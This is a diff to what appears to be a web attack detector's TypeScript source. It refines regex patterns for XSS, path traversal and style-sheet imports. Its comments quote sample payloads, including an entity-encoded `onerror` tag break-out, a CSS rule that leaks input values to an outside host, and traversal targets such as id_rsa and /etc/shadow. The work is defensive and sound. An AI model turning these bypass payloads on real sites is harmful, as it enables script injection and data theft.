@@ -18,7 +18,7 @@ import { constantTemplate } from './template-expression.ts'
 import { makoCommentBlock, TEMPLATE_PAGE_PATTERNS, templatePage, type TemplatePage } from './template-page.ts'
 import { BUILD_FILE_PATTERNS, dockerfile, makefile } from './build-files.ts'
 import { POWERSHELL_ATTACK, POWERSHELL_PATTERNS, PS_INDEX, PS_LITERAL_COLLECTION, powershellProgram } from './powershell.ts'
-import { bareCommand, braceProgram, commandLine, commentedCommand, dotJoinedCommands, someCapture, expandGlobs, fold, PROGRAM_ATTACK, programHeadInjection, protocolCommand, SHELL_PATTERNS, shellInjection, shellProgram } from './shell.ts'
+import { bareCommand, braceProgram, commandLine, commentedCommand, loopCommandLine, dotJoinedCommands, someCapture, expandGlobs, fold, PROGRAM_ATTACK, programHeadInjection, protocolCommand, SHELL_PATTERNS, shellInjection, shellProgram } from './shell.ts'
 import { memoize } from '../memo.ts'
 import { unionOf } from '../match/union.ts'
 import { ATTACK_TYPES } from '../capture/record.ts'
@@ -125,6 +125,9 @@ const VERSIONED_KEYWORD = /\/\*!\d{0,6}\s{0,4}(?:union|select|from|where|order|g
 
 /** The event handlers an attribute break-out uses (`" onfocus=`), without the "on". */
 const HANDLERS = 'mouse\\w{2,8}|load|error|focus\\w{0,3}|blur|click|dblclick|key\\w{2,5}|toggle|start|begin|end|animation\\w{3,10}|transition\\w{3,6}|pointer\\w{2,6}|input|change|submit|wheel|scroll|drag\\w{0,5}|drop|copy|paste|resize|show|play\\w{0,4}|auxclick|contextmenu|message|hashchange|pageshow|beforeunload|unload|readystatechange|select|search|invalid|reset|cut|abort|pagehide|popstate|storage|afterprint|beforeprint|hashchange|formdata|beforeinput|beforetoggle|content\\w{0,10}'
+/** (forty-second round's third review) an event handler inside a tag, read on the value as sent */
+// (a tag as sent runs to its first `>`: a `<` inside it is an attribute's, `<img src=x &gt; <!-- &gt; onerror=…-->`)
+const TAG_HANDLER = new RegExp(String.raw`<[a-z][^>\s]{0,20}[^>]{0,400}?[\s/"'\`;]on(?:${HANDLERS})\s*=`)
 
 /**
  * (twelfth round) What a program's source makes its own. Script sinks called on their own, after a
@@ -184,7 +187,7 @@ const XSS = [
   // (thirty-fifth round: a button's `formaction` naming the site's own page, a relative path or a template's placeholder, `formaction="{{ save }}"`
   // in an OpenCart template, is a form's own target; another origin's, a scheme's, an entity's or an unquoted one is still read)
   /<[a-z][a-z0-9:-]{0,20}\b[^<>]{0,400}?\b(?:formaction(?!\s*=\s*(['"])(?:\{\{\s{0,4}[\w.]{1,60}\s{0,4}\}\}|\/(?![/\\])[^'"<>\s:\\]{0,200}|[\w.-]{1,60}(?:[/?#][^'"<>\s:\\]{0,200})?)\1)|srcdoc|datasrc|datafld|dataformatas)\s*=|<\?xml-stylesheet\b[^>]{0,200}?href\s*=\s*['"]?\s*(?:javascript|data):|<\?import\b(?=[^<>]{0,200}?\b(?:namespace|implementation)\s*=)/,
-  /\bstyle\s*=\s*['"`]?[^'"`>]{0,200}?(?:expression\s*\(|javascript\s*:|-moz-binding|\bbinding\s*:\s*url\s*\(|behavior\s*:|url\s*\(\s*['"]?\s*(?:javascript|vbscript):)|<style\b[^>]{0,100}>[^<]{0,20000}?(?:expression\s*\(|javascript\s*:|-moz-binding|behavior\s*:|@import(?!\s{0,4}(?:url\s{0,4}\(\s{0,4})?['"]?(?:(?:\/(?!\/)|[@~.\w-])[\w@~.\/-]{0,200}\.(?:s?css|less|sass|styl)|(?:https?:)?\/\/fonts\.googleapis\.com\/css2?\?family=[\w+:;,@%&=.|-]{1,400})['"]?\s{0,4}\)?\s{0,4}[;\n])|alert\s*\()/,
+  /\bstyle\s*=\s*['"`]?[^'"`>]{0,200}?(?:expression\s*\(|javascript\s*:|-moz-binding|\bbinding\s*:\s*url\s*\(|behavior\s*:|url\s*\(\s*['"]?\s*(?:javascript|vbscript):)|<style\b[^>]{0,100}>[^<]{0,20000}?(?:expression\s*\(|javascript\s*:|-moz-binding|behavior\s*:|@import(?!\s{0,4}(?:url\s{0,4}\(\s{0,4})?['"]?(?:\/(?!\/)|[@~.\w-])[\w@~.\/-]{0,200}\.(?:s?css|less|sass|styl)['"]?\s{0,4}\)?\s{0,4}[;\n])|alert\s*\()/,
   // (review: after `[`, `#` or `/`, not the no-op link, `/category/javascript:void(0)` a crawler built from `href="javascript:void(0)"`,
   // `#javascript:;`, nor a hashtag then prose, `#javascript: (part 1)`)
   // (thirtieth round: nor a style sheet's attribute selector, `a[href^="javascript:"]:after`, as print style sheets have it)
@@ -492,8 +495,9 @@ const TRAVERSAL = [
   // climbing towards a system location
   // (thirty-fifth round: a directory's name, not a word that begins with one, `../../config/bootloader.md`, `../windows-setup.md`; review: but
   // `apache-tomcat`, `apache-activemq` and `xampplite` are installations' directories; forty-second round: `apache` a directory's name,
-  // `apache2/`, `apache-tomcat-9.0.65/`, not a file's that begins with it, `../how-to-guides/apache-to-s3.md`)
-  /\.\.(?:[/\\]{1,2}|0x2f|0x5c|%2f|%5c|2f|5c)(?:[^\0\n]{0,60}?(?:[/\\]|2f))?(?:etc[/\\]|proc[/\\]|var[/\\](?:log|lib|www|run|spool|mail)|usr[/\\]|root[/\\]|home[/\\]|(?:boot|windows|winnt|inetpub)(?![a-z_-])|xampp(?!(?!lite)[a-z_-])|system32|apache(?:\d{0,2}|-[a-z]{1,12}(?:-[\d.]{1,12})?)(?:[/\\]|%2f|%5c|$)|program\s?files|wp-config|web\.config|\.htaccess|\.htpasswd|\.env\b|\.ssh|\.git[/\\]|id_rsa|php\.ini|win\.ini|boot\.ini|config\.php|httpd\.conf|web-inf[/\\]|logs?[/\\]|\.(?:history|bash_history|bash_profile|bashrc|cshrc|profile|pass|passwd)\b|_config\.php)/,
+  // `apache2/`, `apache-tomcat-9.0.65/`, `apache-tomcat-10.1.0-M17/`, `apache-hive-3.1.3-bin/`, not a file's that begins with it,
+  // `../how-to-guides/apache-to-s3.md`)
+  /\.\.(?:[/\\]{1,2}|0x2f|0x5c|%2f|%5c|2f|5c)(?:[^\0\n]{0,60}?(?:[/\\]|2f))?(?:etc[/\\]|proc[/\\]|var[/\\](?:log|lib|www|run|spool|mail)|usr[/\\]|root[/\\]|home[/\\]|(?:boot|windows|winnt|inetpub)(?![a-z_-])|xampp(?!(?!lite)[a-z_-])|system32|apache(?:\d{0,2}|-[a-z]{1,12}(?:-\d[\w.]{0,20})?(?:-(?:bin|src|m\d{1,3}|rc\d{1,3}|alpha\d{0,3}|beta\d{0,3}))?)(?:[/\\]|%2f|%5c|$)|program\s?files|wp-config|web\.config|\.htaccess|\.htpasswd|\.env\b|\.ssh|\.git[/\\]|id_rsa|php\.ini|win\.ini|boot\.ini|config\.php|httpd\.conf|web-inf[/\\]|logs?[/\\]|\.(?:history|bash_history|bash_profile|bashrc|cshrc|profile|pass|passwd)\b|_config\.php)/,
   /(?:^|[^\w.])[/\\]?(?:etc[/\\](?:passwd|shadow|master\.passwd|sudoers|group|hosts|issue|motd|crontab)|proc[/\\]self[/\\]\w+|proc[/\\]\d{1,6}[/\\]\w+)\b/,
   /\b[a-z]:[/\\]{1,2}(?:windows|winnt|boot\.ini|inetpub|xampp|program\s?files|documents and settings|apache|php|wamp|mysql)\b|\bwindows[/\\](?:win\.ini|system\.ini|system32[/\\]|repair[/\\]|panther[/\\])/,
   /^file:[/\\]{2,3}(?:etc|proc|windows|winnt|[a-z]:|root|boot)\b|^(?:php|zip|phar|expect|glob|data):\/\/(?:filter|input|stdin|fd|memory|temp)?/,
@@ -1818,6 +1822,10 @@ const MARKDOWN_START = /^(?:#{1,6} [^\n]{1,200}\n|---\n[\w-]{1,40}:)/
 const MARKDOWN_ESCAPED_LT = /\\</g
 /** (forty-second round) a cut JSON text completed in its last string: the closing quote, then the closers only (a key cut is given `:0`) */
 const CUT_LAST_STRING = /"[\]}]{1,64}$/
+/** A value as the application has it, lower-cased: its own percent-decoding done where it does one (a query's, a form's value). */
+function appText(raw: string, byApp: boolean): string {
+  return (byApp ? percentDecode(raw) : raw).toLowerCase()
+}
 /** Whether a text ends inside a tag: a `<` with no `>` after it. */
 function openTagEnds(text: string): boolean {
   const lt = text.lastIndexOf('<')
@@ -1920,7 +1928,11 @@ function inertIcons(v: string, raw: string | null | undefined): string {
   // <!-- &gt; onerror=…-->` decoded looked like a tag's end then a comment; a browser reads attributes): each element is judged on the
   // value as sent as well, the openings taken in order (none when decoding made one); `null`: the text as sent is not known, no comment
   // is dropped
-  if (typeof raw === 'string' && count(raw, '<svg') !== count(v, '<svg')) raw = null
+  // (third review: and none past 64 openings, where the count stops)
+  if (typeof raw === 'string') {
+    const openings = count(v, '<svg')
+    if (openings > 64 || count(raw, '<svg') !== openings) raw = null
+  }
   let rawAt = typeof raw === 'string' ? raw.indexOf('<svg') : -1
   let out = ''
   let from = 0
@@ -2122,12 +2134,25 @@ const VIDEO_EMBED = new RegExp(String.raw`<iframe(?:${EMBED_ATTRIBUTE}){0,12}[ \
  * (forty-second round) MathJax configured by data alone (`<script>MathJax.Hub.Config({ tex2jax: { inlineMath: [['$','$']] }, … });</script>`,
  * a notebook's saved styling output, a page's head; `<script type="text/x-mathjax-config">` too): one call of `MathJax.Hub.Config` with an
  * object literal of names, numbers and strings — no parenthesis, `=`, backtick or markup outside the strings (no function, no call, no
- * assignment), no `:` or `/` inside them (no URL for an extension to load, no `javascript:` for `\href`), `//` comments — runs nothing but
- * the library's own setting. A lower-cased value's (its closing tag, when it ends the value, already taken off); anything else in the
+ * assignment), no `:` or `/` inside them (no URL for an extension to load, no `javascript:` for `\href`), `//` comments to the line's end
+ * (review: JavaScript ends them at CR, U+2028 and U+2029 too, `//x\rb: alert(1)` ran) — runs nothing but the library's own setting. A lower-cased value's (its closing tag, when it ends the value, already taken off); anything else in the
  * script keeps it read.
  */
 const MATHJAX_STRING = String.raw`(?:"(?:[^"\\\n<:/]|\\[^\n<:/]){0,200}"|'(?:[^'\\\n<:/]|\\[^\n<:/]){0,200}')`
-const MATHJAX_CONFIG = new RegExp(String.raw`<script(?:[ \t\n\f\r]{1,4}type[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])text\/x-mathjax-config\1)?[ \t\n\f\r]{0,4}>[ \t\n\f\r]{0,40}mathjax\.hub\.config\([ \t\n\f\r]{0,40}\{(?:${MATHJAX_STRING}|\/\/[^\n<]{0,200}|[^'"\x60()=<>/\\])*\}[ \t\n\f\r]{0,40}\)[ \t\n\f\r]{0,40};?[ \t\n\f\r]{0,40}(?:<\/script>|$)`, 'g')
+const MATHJAX_CONFIG = new RegExp(String.raw`<script(?:[ \t\n\f\r]{1,4}type[ \t\n\f\r]{0,4}=[ \t\n\f\r]{0,4}(["'])text\/x-mathjax-config\1)?[ \t\n\f\r]{0,4}>[ \t\n\f\r]{0,40}mathjax\.hub\.config\([ \t\n\f\r]{0,40}\{(?:${MATHJAX_STRING}|\/\/[^\n\r\u2028\u2029<]{0,200}|[^'"\x60()=<>/\\])*\}[ \t\n\f\r]{0,40}\)[ \t\n\f\r]{0,40};?[ \t\n\f\r]{0,40}(?:<\/script>|$)`, 'g')
+/**
+ * (forty-second round) Google Fonts imported by a style sheet (`@import url('https://fonts.googleapis.com/css?family=Source+Code+Pro');`,
+ * a notebook's styling output): taken out of a `<style>` element that loads nothing else — (third review) no other `url(` or import in it,
+ * where a rule could send the page's values out (`input[value^=s3]{background:url(//host/leak?p=s3)}`, which an import made a rule report
+ * before). A lower-cased value's; at most 8 elements a value.
+ */
+const STYLE_ELEMENT = /<style\b[^<>]{0,100}>[^<]{0,20000}/g
+const FONT_IMPORT = /@import[ \t\n]{0,4}(?:url[ \t]{0,4}\([ \t]{0,4})?(['"]?)(?:https?:)?\/\/fonts\.googleapis\.com\/css2?\?family=[\w+:;,@%&=.|-]{1,400}\1[ \t]{0,4}\)?[ \t]{0,4};/g
+const STYLE_LOADS = /url[ \t]{0,4}\(|@import|image-set|src[ \t]{0,4}:/
+function fontImports(style: string): string {
+  const rest = style.replace(FONT_IMPORT, '')
+  return STYLE_LOADS.test(rest) ? style : rest
+}
 /** (thirty-third round) A data block no browser runs (`<script type="application/ld+json">…</script>`): no markup inside, no source, no handler */
 // (review: its opening tag exactly — its type and, besides, an id, a class or a nonce —: `data-type="application/json"`, a second type or a
 // type inside another attribute's value leave a script the browser runs; thirty-sixth round's review: between HTML's own blanks only —
@@ -2304,7 +2329,7 @@ export const ATTACK_PATTERNS: readonly RegExp[] = [
   ...Object.values(GATE), SPECIAL, JSON_SPECIAL, WORDS, URL_IN_VALUE, SCHEME_ONLY, PORT_TARGET, EXTGLOB, EXTGLOB_ALL, GLOB_CLIMB, ACCELERATOR, SHELL_ESCAPE, ASSET_CLIMB, BUILT_MODULE_CLIMB, QUOTED_ONE_WORD, SCHEME_REST, METHOD_BEFORE_URL, JDBC_HOST, BACKREFERENCE_HOST, PHP_ENCODED_NAME, PHP_JOINED_NAME, PHP_PIECE, CONFUSING_AUTHORITY, LINK, DANGLING, NESTED_SCHEME, WEB_SCHEME, SMUGGLING_SCHEME, DANGEROUS_SCHEME, COMMAND_FIELD, ADDRESS, FILE_URL, FILE_URL_START, DOT_SEGMENTS, LEADING_DOT, HANDED_SCHEME, DOCUMENTATION_HOST, DOTTED_DECIMAL, DECIMAL_HOST, CIDR, OCTAL_DIGITS, LEADING_ZERO_PART, METADATA_HOST, OBFUSCATED_HOST, NUMERIC_HOST, BARE_HOST, PRIVATE_SUFFIX_ALONE, ENCLOSED, METADATA_IN_URL, METADATA_IN_NAME, SINGLE_LABEL, FILE_URL_ANY, OOB_HOST, CALLBACK_HOST, URL_PARAM, IP_ADDRESS_KEY, BSON_TYPE, FILE_NAMED_KEY,
   ABSOLUTE_PATH, DRIVE_DOCUMENT, PROGRAM_DIRECTORIES, REVERSE_DNS_END, CREDENTIAL_FIELD, PRIVILEGED_NAME, WINDOWS_PATH_LIST, STRAPI_FILTER, SECURITY_POLICY, FILE_PARAM, REMOTE_INCLUSION, INCLUDED_FILE_KEY, INCLUDED_SCRIPT, PROGRAM_FILE, SERVER_FILE, PLACEHOLDER_PATH, SERVER_EXTENSION, CLIMB_TO_SERVER_FILE, RELATIVE_SYSTEM_PATH, ESCAPED_PATH, SSI, PLUS_MARKUP, CRLF_START, CRLF, CRLF_ANY_NAME, YAML_BLOCK_START, CRLF_ANY_HEADER, CRLF_REQUEST, CRLF_LEAD, WINDOWS_ROOT_PATH, DOUBLED_BREAK, NESTED_BREAK, BREAKS, ENCODED_BREAK, REDIRECT_PARAM, EMAIL_ADDRESS, MAIL_KEY, NESTED_URL_PARAM, BODY_REDIRECT, NESTED_REDIRECT, BARE_TARGET, BARE_ADDRESS, INVISIBLE_START, IGNORABLE, BACKSLASHES, BARE_IPV6, PORT, IPV4_PORT, LONG_HEX, PATH_THEN_URL, DISGUISED_URL, REDIRECT_PATH, HOST_CLIMB_PATH, CLIMB_TO_HOST, LEADING_CONTROLS, HOMOGRAPH, BLANK_HOST_PATH, REDIRECTOR, HOST_QUERY, SECOND_URL, ENCODED_UNRESERVED, ABSOLUTE_URL, JNDI, PROVIDER_KEY, ONE_LETTER, LOOKUP, LOOKUP_SYNTAX, JNDI_LEFT, TRAILING_ADDRESS, PERCENTLESS_SLASH, SELF_COMPARE, CONFIG_XML, SCANNER_AGENT, PRODUCT_FIRST, AGENT_COMMENT, AGENT_ITEM, AGENT_OPTION, SCANNER_PATH, SEARCH_INDEX, BACKUP_PATH, PROBED_FILE, BACKUP_ARCHIVE,
   SSTI_TAG, MARKDOWN_START, MARKDOWN_ESCAPED_LT, LIST_ITEM, INDENTED_CODE, CODE_SIGNS, EMBED, COMPONENT_SCRIPT, SCRIPT_SINK, STRING_LITERALS,
-  SCRIPT_SOURCE, SCRIPT_EXTENSION, VERSION_KEY, SITE_GLUED, COUNTRY_SITE, STACKED_CUT, BAR_SIGIL, CLIMB_SEPARATOR, VERSIONED_KEYWORD, DIALOGUE_DASH, SQL_SIGN, CSS_ESCAPE_CHAR, DOWNLOADER, URL_HOSTS, CMD_SUBSTRING, CRLF_TRAIL, DOUBLE_QUOTED_DASH, FOREIGN_SCHEME, NETWORK_SCHEME, TYPOGRAPHIC_QUOTE, TYPOGRAPHIC_QUOTES, JOINED_LITERALS, JOINED_LITERALS_ALL, LOOPBACK_LINK, QUOTED_DIV, QUOTED_DIVS, PROMQL_DEFAULT, PROMQL_DEFAULTS, PROMQL_SELECTOR, PROMQL_OR, PROMQL_ORS, GRAFANA_VARIABLE, GRAFANA_ASSIGNED, ANNOTATED_QUERY, MARKUP_URL, COMMENT_BLANK, PROGRAM_LINE, COMMENT_LINE, BLOCK_COMMENT, JSX_HANDLER, MULTILINE_LITERALS, RETURN_TYPE_LINE, FN_DECLARED, SIGNATURE_LINE, SHELL_WORD_PAREN, RUST_REFERENCE, CPP_REFERENCE, TRAILING_SCRIPT_CLOSE, TRAILING_PAGE_CLOSE, SVG_ICON, SVG_COMMENT, SVG_DRAWING, SVG_ACTIVE, SVG_DATA, SVG_DATA_ACTIVE, XML_DECLARATION, URL_GOES_ON, ROUTER_MATCHER, ROUTER_RULE_REST, ASYNC_STYLE, NO_OP_LINK, NO_OP_HANDLER, OWN_FUNCTION_HANDLER, NO_OP_URL, TEMPLATE_BINDING, LOCAL_USE, SVG_DOCTYPE, SVG_CONTROL, SVG_FOREIGN_ENCODING, SVG_DATA_LOOSE, ASCII_BLANKS, TEMPLATE_SCRIPT_SRC, MATHJAX_CONFIG, DATA_SCRIPT, PROVIDER_SCRIPT, VIDEO_EMBED, GRAPHQL_LITERAL, TAG_PLACEHOLDER, TYPE_ARGUMENTS, OWN_SQL_CALL, OWN_SQL_CALL_GATE, RUST_MACRO, RUST_REPETITION, METAVARIABLE, SHELL_BINDING, ADDRESS_OF, ADDRESS_ASSIGNED, C_FAMILY, GO_FOR_HEADER, CONDITION_LINE, LOGICAL, SIGIL_LOGIC, PERL_PROGRAM, CODE_SINK, BARE_PROBE_SINK, PERL_FOREIGN_SINK, CODE_REFERENCE, HASH_COMMENT_LINE, DECLARATION, REGEX_LITERAL, ...SQL_PATTERNS, ...SHELL_PATTERNS, ...BUILD_FILE_PATTERNS, ...POWERSHELL_PATTERNS, URL_QUERY, PLUS_ALL, PLUS_KEYWORD, QUOTED_DASH, SQL_COMMENT, URL_BLANK, URL_BLANKS, QUOTE_BLANKS, CSS_COMMENT, CSS_ESCAPE, CSS_EXPRESSION, BOUNDARY, DOCUMENT, CODE_SPANS, BICEP_DECLARATION, BICEP_COMPLEX, DISPLAY_MATH, CUT_LAST_STRING, INDEX_KEY, IMAGE_ALT, PROSE, REGEX_SOURCE, SUBSTITUTION_OPEN, ...DECODE_PATTERNS, ...TEMPLATE_PAGE_PATTERNS,
+  SCRIPT_SOURCE, SCRIPT_EXTENSION, VERSION_KEY, SITE_GLUED, COUNTRY_SITE, STACKED_CUT, BAR_SIGIL, CLIMB_SEPARATOR, VERSIONED_KEYWORD, DIALOGUE_DASH, SQL_SIGN, CSS_ESCAPE_CHAR, DOWNLOADER, URL_HOSTS, CMD_SUBSTRING, CRLF_TRAIL, DOUBLE_QUOTED_DASH, FOREIGN_SCHEME, NETWORK_SCHEME, TYPOGRAPHIC_QUOTE, TYPOGRAPHIC_QUOTES, JOINED_LITERALS, JOINED_LITERALS_ALL, LOOPBACK_LINK, QUOTED_DIV, QUOTED_DIVS, PROMQL_DEFAULT, PROMQL_DEFAULTS, PROMQL_SELECTOR, PROMQL_OR, PROMQL_ORS, GRAFANA_VARIABLE, GRAFANA_ASSIGNED, ANNOTATED_QUERY, MARKUP_URL, COMMENT_BLANK, PROGRAM_LINE, COMMENT_LINE, BLOCK_COMMENT, JSX_HANDLER, MULTILINE_LITERALS, RETURN_TYPE_LINE, FN_DECLARED, SIGNATURE_LINE, SHELL_WORD_PAREN, RUST_REFERENCE, CPP_REFERENCE, TRAILING_SCRIPT_CLOSE, TRAILING_PAGE_CLOSE, SVG_ICON, SVG_COMMENT, SVG_DRAWING, SVG_ACTIVE, SVG_DATA, SVG_DATA_ACTIVE, XML_DECLARATION, URL_GOES_ON, ROUTER_MATCHER, ROUTER_RULE_REST, ASYNC_STYLE, NO_OP_LINK, NO_OP_HANDLER, OWN_FUNCTION_HANDLER, NO_OP_URL, TEMPLATE_BINDING, LOCAL_USE, SVG_DOCTYPE, SVG_CONTROL, SVG_FOREIGN_ENCODING, SVG_DATA_LOOSE, ASCII_BLANKS, TEMPLATE_SCRIPT_SRC, MATHJAX_CONFIG, STYLE_ELEMENT, FONT_IMPORT, STYLE_LOADS, DATA_SCRIPT, PROVIDER_SCRIPT, VIDEO_EMBED, GRAPHQL_LITERAL, TAG_PLACEHOLDER, TYPE_ARGUMENTS, TAG_HANDLER, OWN_SQL_CALL, OWN_SQL_CALL_GATE, RUST_MACRO, RUST_REPETITION, METAVARIABLE, SHELL_BINDING, ADDRESS_OF, ADDRESS_ASSIGNED, C_FAMILY, GO_FOR_HEADER, CONDITION_LINE, LOGICAL, SIGIL_LOGIC, PERL_PROGRAM, CODE_SINK, BARE_PROBE_SINK, PERL_FOREIGN_SINK, CODE_REFERENCE, HASH_COMMENT_LINE, DECLARATION, REGEX_LITERAL, ...SQL_PATTERNS, ...SHELL_PATTERNS, ...BUILD_FILE_PATTERNS, ...POWERSHELL_PATTERNS, URL_QUERY, PLUS_ALL, PLUS_KEYWORD, QUOTED_DASH, SQL_COMMENT, URL_BLANK, URL_BLANKS, QUOTE_BLANKS, CSS_COMMENT, CSS_ESCAPE, CSS_EXPRESSION, BOUNDARY, DOCUMENT, CODE_SPANS, BICEP_DECLARATION, BICEP_COMPLEX, DISPLAY_MATH, CUT_LAST_STRING, INDEX_KEY, IMAGE_ALT, PROSE, REGEX_SOURCE, SUBSTITUTION_OPEN, ...DECODE_PATTERNS, ...TEMPLATE_PAGE_PATTERNS,
 ]
 
 /** Where a value came from: what each class may judge in it depends on it. */
@@ -2839,6 +2864,8 @@ export class AttackDetector {
   /** (forty-second round's review) the last value `#decode` or `#asIs` read, as sent and as decoded */
   #raw = ''
   #rawDecoded = ''
+  /** the application percent-decodes `#raw` once before using it (a query's or a form's value): done only where the text as sent is read */
+  #rawByApp = false
   /** (forty-second round) the string a JSON body's cut ended in, its last one, read as cut (`#cutValue`) where the body's members are read */
   #cutString: string | undefined = undefined
 
@@ -3179,8 +3206,8 @@ export class AttackDetector {
     const v = decodeValue(raw, plusIsSpace, byApp)
     // (forty-second round's review) the value as the application has it, its own percent-decoding done (a query's, a form's): only where an
     // SVG element's comments could need it
-    const asApp = byApp && plusIsSpace && raw.includes('+') ? raw.replace(PLUS_ALL, ' ') : raw
-    this.#raw = byApp && raw.includes('%') && (raw.includes('svg') || raw.includes('SVG')) ? percentDecode(asApp) : asApp
+    this.#raw = byApp && plusIsSpace && raw.includes('+') ? raw.replace(PLUS_ALL, ' ') : raw
+    this.#rawByApp = byApp && raw.includes('%')
     this.#rawDecoded = v
     const plus = plusIsSpace && !byApp && raw.includes('+')
     this.#decodedMarkup = (lastDecode.markup || plus ? MADE_MARKUP : 0) | (lastDecode.decoded || plus ? DECODED : 0)
@@ -3190,6 +3217,7 @@ export class AttackDetector {
   #asIs(raw: string): string {
     this.#decodedMarkup = 0
     this.#raw = raw
+    this.#rawByApp = false
     this.#rawDecoded = raw
     return raw
   }
@@ -3198,6 +3226,7 @@ export class AttackDetector {
   #value(decoded: string, mode: Mode, key: string, markup = 0): number {
     // (forty-second round's review) the value as sent, where the last decoding made this one (judging it may decode others)
     const raw = this.#rawDecoded === decoded ? this.#raw : undefined
+    const rawByApp = this.#rawByApp
     // the time budget (insight.maxInspectTime), read on long values and on every sixteenth short one: past it the
     // request's remaining values are not judged (counted by the insight stage)
     if (this.#cut) return 0
@@ -3211,7 +3240,7 @@ export class AttackDetector {
     const was = this.#markupDecoded
     const vtff = decoded.includes('\x0b') || decoded.includes('\x0c')
     this.#markupDecoded = was | markup | (vtff ? MADE_MARKUP | DECODED : 0)
-    const found = vtff ? this.#judge(decoded.replace(VT_FF, ''), mode, key) | this.#judge(decoded.replace(VT_FF, ' '), mode, key) : this.#judge(decoded, mode, key, raw)
+    const found = vtff ? this.#judge(decoded.replace(VT_FF, ''), mode, key) | this.#judge(decoded.replace(VT_FF, ' '), mode, key) : this.#judge(decoded, mode, key, raw, rawByApp)
     this.#markupDecoded = was
     if (found !== 0 && this.#hits !== undefined) {
       const part = this.#part
@@ -3220,8 +3249,11 @@ export class AttackDetector {
     return found
   }
 
-  /** The classes one decoded value carries; `key` is the name it came under ("" when none); `raw`, the value as sent when known. */
-  #judge(decoded: string, mode: Mode, key: string, raw?: string): number {
+  /**
+   * The classes one decoded value carries; `key` is the name it came under ("" when none); `raw`, the value as sent when known (`rawByApp`:
+   * before the application's own percent-decoding, which `appText` does).
+   */
+  #judge(decoded: string, mode: Mode, key: string, raw?: string, rawByApp = false): number {
     if (decoded.length < 2) return 0
     // (thirty-sixth round, review) the exemptions that trust a tag's quotes, only where no decoding made them (`#markupDecoded`: read before
     // a value inside this one is judged)
@@ -3339,7 +3371,9 @@ export class AttackDetector {
     // (thirty-second round) and a component's script cut from its file closes on a line of its own at the value's end: nothing after it to break out into
     if (code && (c & C_LT) !== 0 && xv.includes('</script>')) xv = xv.replace(TRAILING_SCRIPT_CLOSE, '')
     if (code && (c & C_LT) !== 0 && xv.includes('</script>') && !lowered.includes('<script')) xv = xv.replace(TRAILING_PAGE_CLOSE, '')
-    if ((c & C_LT) !== 0 && xv.includes('<svg')) xv = inertIcons(xv, literalMarkup ? undefined : raw === undefined ? null : raw.toLowerCase())
+    // (forty-second round's review) the value as the application has it, where decoding made markup: read where the text as sent decides
+    const sent = !literalMarkup && raw !== undefined && (c & C_LT) !== 0 ? appText(raw, rawByApp) : undefined
+    if ((c & C_LT) !== 0 && xv.includes('<svg')) xv = inertIcons(xv, literalMarkup ? undefined : sent ?? null)
     const svgData = (c & C_COLON) !== 0 && xv.includes('svg+xml;base64,')
     if (svgData) xv = inertSvgData(xv, decoded)
     if (literalMarkup && (c & C_LT) !== 0 && xv.includes('<link') && xv.includes('this.')) xv = xv.replace(ASYNC_STYLE, ' ')
@@ -3358,10 +3392,14 @@ export class AttackDetector {
       if (asSent && xv.includes('//')) xv = xv.replace(PROVIDER_SCRIPT, ' ')
     }
     if (asSent && (c & C_LT) !== 0 && xv.includes('<iframe') && xv.includes('//')) xv = xv.replace(VIDEO_EMBED, ' ')
+    if (literalMarkup && (c & C_LT) !== 0 && xv.includes('fonts.googleapis.com') && xv.includes('<style')) xv = xv.replace(STYLE_ELEMENT, fontImports)
     // and in several lines of text, a command-line usage's placeholder in a string of its own (`.argument('<script>')`) is no element
     if ((c & (C_LT | C_BREAK)) === (C_LT | C_BREAK)) xv = xv.replace(TAG_PLACEHOLDER, "''")
     if ((c & C_LT) !== 0 && (xv.includes(' tag') || xv.includes(' element'))) xv = xv.replace(TAG_NAMED, ' a-tag ')
     const xss = code ? XSS_MARKUP : XSS
+    // (forty-second round's third review) a handler inside a tag as sent, where decoding made a `>` before it (`<img src=x &gt;
+    // onerror=…>`: no tag's end to a browser, which reads the handler as the tag's own)
+    if (sent !== undefined && sent.includes('&') && sent.includes('<') && TAG_HANDLER.test(sent)) found |= BIT.xss
     if ((c & (C_LT | C_QUOTE | C_COLON | C_PAREN | C_BRACE | C_PLUS | C_BRACKET | C_EQ)) !== 0 && GATE.xss.test(xv) && (anyOf(xss, xv) || (!markdown && (c & C_LT) !== 0 && DANGLING.test(xv) && !cutPage(xv)) || (URL_BLANK.test(xv) && !xv.includes('javascript:') && anyOf(xss, xv.replace(QUOTE_BLANKS, '$1 ').replace(URL_BLANKS, ''))) || ((xv.includes('/*') || xv.includes('\\')) && cssHidden(xv, xss, (c & C_PAREN) !== 0)))) found |= BIT.xss
     // (nineteenth round) a script's string literals joined to spell a sink (`eval('ale'+'rt(0)')`, `location='javascript:ale'+'rt(12)'`),
     // and markup loading from an out-of-band or canary host (`<img src="https://x.oast.example.net/…">`): not in a program's source
@@ -3495,7 +3533,7 @@ export class AttackDetector {
     if (code && (c & C_BACKTICK) !== 0 && (sv.includes('gql') || sv.includes('graphql'))) sv = sv.replace(GRAPHQL_LITERAL, '``')
     // (json22) a notebook's shell escapes (`!mkdir -p data && cd data && wget -q https://…`): a document's own command lines, unless
     // one downloads and runs or opens a reverse shell
-    if (this.#document && v.includes('!') && (v.charCodeAt(0) === 33 || (c & C_BREAK) !== 0)) sv = sv.replace(SHELL_ESCAPE, (line, cmd: string) => (commandLine(cmd) && !PROGRAM_ATTACK.test(cmd) ? '' : line))
+    if (this.#document && v.includes('!') && (v.charCodeAt(0) === 33 || (c & C_BREAK) !== 0)) sv = sv.replace(SHELL_ESCAPE, (line, cmd: string) => ((commandLine(cmd) || loopCommandLine(cmd)) && !PROGRAM_ATTACK.test(cmd) ? '' : line))
     // (json22) a glob's extended pattern (`+(spec|test)`): its `|` separates names
     if ((c & (C_PIPE | C_PAREN)) === (C_PIPE | C_PAREN) && EXTGLOB.test(sv)) sv = sv.replace(EXTGLOB_ALL, (m) => m.replaceAll('|', ','))
     // a body's field named for a command holding a command line (a package's script): judged as a shell program is (twenty-fifth round)
